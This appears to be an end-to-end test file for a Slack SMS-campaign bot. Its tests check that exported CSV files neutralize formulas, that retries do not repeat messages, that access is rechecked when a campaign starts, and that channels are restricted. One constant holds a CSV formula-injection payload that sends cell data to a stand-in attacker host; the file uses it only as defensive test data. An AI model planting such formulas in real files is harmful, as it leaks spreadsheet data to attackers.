"""Campaigns that hold up: files safe to open, each message once, access asked again when a
campaign is started, the Home tab's campaigns under ALLOWED_CHANNELS."""

from __future__ import annotations

import csv
import io
import time

from bot.core.csv_cells import FORMULA_STARTS
from tests.e2e.harness import run_cli, wait_for
from tests.e2e.test_campaigns import (
    HEADER,
    _with,
    accepted_phones,
    press,
    preview_of,
    sheet,
    submit_campaign,
    thread,
)

EVIL = '=HYPERLINK("https://evil.example/?"&A2,"x")'


def cells(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]


def test_no_file_the_app_writes_holds_a_formula(app, slack_api, esms, tmp_path):
    rows = f'0900000001;"{EVIL.replace(chr(34), chr(34) * 2)}";A1\n=1+2;@SUM(A1);A2\n'
    upload = slack_api.add_file("evil.csv", (HEADER + rows).encode())
    parent = preview_of(app, slack_api, upload)
    invalid = wait_for(lambda: [u for u in slack_api.uploads if u.filename == "invalid-rows.csv"])
    press(app, wait_for(lambda: _with(slack_api, parent, "campaign_cancel")), "campaign_cancel")
    results = wait_for(
        lambda: [u for u in slack_api.uploads if "results" in u.filename], timeout=15
    )
    opt_out = app.command(f"optout add 0912345678 {EVIL}")
    assert opt_out.status_code == 200
    exported = run_cli(app.env, "optout", "export").stdout.encode()
    for name, content in (
        ("results", results[0].content),
        ("invalid rows", invalid[0].content),
        ("opt-outs", exported),
    ):
        found = cells(content)
        assert not [c for c in found if c.startswith(FORMULA_STARTS)], (name, found)
    assert "'" + EVIL in cells(results[0].content)  # kept, readable, never computed
    assert any(c.startswith("'=") for c in cells(exported))


def test_a_retried_file_of_invalid_rows_never_repeats_the_preview(app, slack_api, esms):
    slack_api.fail_next("files.getUploadURLExternal", times=2, status=500)
    rows = "0900000001;Lan;A1\nabc;Không số;A2\n"
    upload = slack_api.add_file("list.csv", (HEADER + rows).encode())
    parent = preview_of(app, slack_api, upload)
    wait_for(lambda: [u for u in slack_api.uploads if u.filename == "invalid-rows.csv"], timeout=20)
    assert len(slack_api.calls_to("files.getUploadURLExternal")) >= 3  # it was retried
    time.sleep(1.0)
    assert thread(slack_api, parent).count("*Preview*") == 1


def test_a_cancelled_campaign_uploads_its_results_file_once(app_factory, slack_api, esms):
    app = app_factory(ESMS_MAX_PER_SECOND="2")
    upload = slack_api.add_file("list.csv", sheet(8))
    parent = preview_of(app, slack_api, upload)
    press(app, wait_for(lambda: _with(slack_api, parent, "campaign_start")), "campaign_start")
    wait_for(lambda: len(accepted_phones(esms)) >= 3, timeout=15)
    press(app, wait_for(lambda: _with(slack_api, parent, "campaign_pause")), "campaign_cancel")
    wait_for(lambda: "Cancelled" in thread(slack_api, parent), timeout=15)
    # The rows already out are called back afterwards, each refreshing the thread; the last one
    # ends the campaign, and its results file is uploaded once, whatever refreshes follow.
    for submission in list(esms.accepted.values()):
        esms.callback(submission, 5, success=1)
    wait_for(lambda: [u for u in slack_api.uploads if "results" in u.filename], timeout=20)
    for submission in list(esms.accepted.values()):
        esms.callback(submission, 5, success=1)  # duplicates, as eSMS sends them
    time.sleep(7)  # past the thread's refresh interval, twice
    assert len([u for u in slack_api.uploads if "results" in u.filename]) == 1


def test_an_author_who_lost_the_right_to_send_cannot_start_the_campaign(
    app_factory, slack_api, esms
):
    slack_api.user_groups["S0AGENTS"] = {"U0001"}
    app = app_factory(ALLOWED_USERS="S0AGENTS", USER_GROUP_CACHE_SECONDS="0")
    upload = slack_api.add_file("list.csv", (HEADER + "0900000001;Lan;A1\n").encode())
    parent = preview_of(app, slack_api, upload)
    slack_api.user_groups["S0AGENTS"] = set()  # removed from the team since the preview
    started = wait_for(lambda: _with(slack_api, parent, "campaign_start"))
    answer = press(app, started, "campaign_start", response_url=slack_api.response_url("press"))
    assert answer.status_code == 200
    wait_for(lambda: any("not on the list" in str(r) for r in slack_api.responses))
    time.sleep(1.5)
    assert esms.submissions == []


def test_a_campaign_from_the_home_tab_goes_by_the_channel_chosen(app_factory, slack_api, esms):
    app = app_factory(ALLOWED_CHANNELS="C0001")
    upload = slack_api.add_file("list.csv", (HEADER + "0900000001;Lan;A1\n").encode())
    for chosen, allowed in (("C0OTHER", False), ("C0001", True)):
        state = {"channel": {"value": {"type": "conversations_select",
                                       "selected_conversation": chosen}}}  # fmt: skip
        answer = submit_campaign(app, upload, home_state=state)
        assert answer.status_code == 200
        if allowed:
            assert not answer.text
            wait_for(lambda: slack_api.parents("C0001"))
        else:
            assert "can't be sent from this channel" in answer.json()["errors"]["channel"]
            assert slack_api.parents() == []
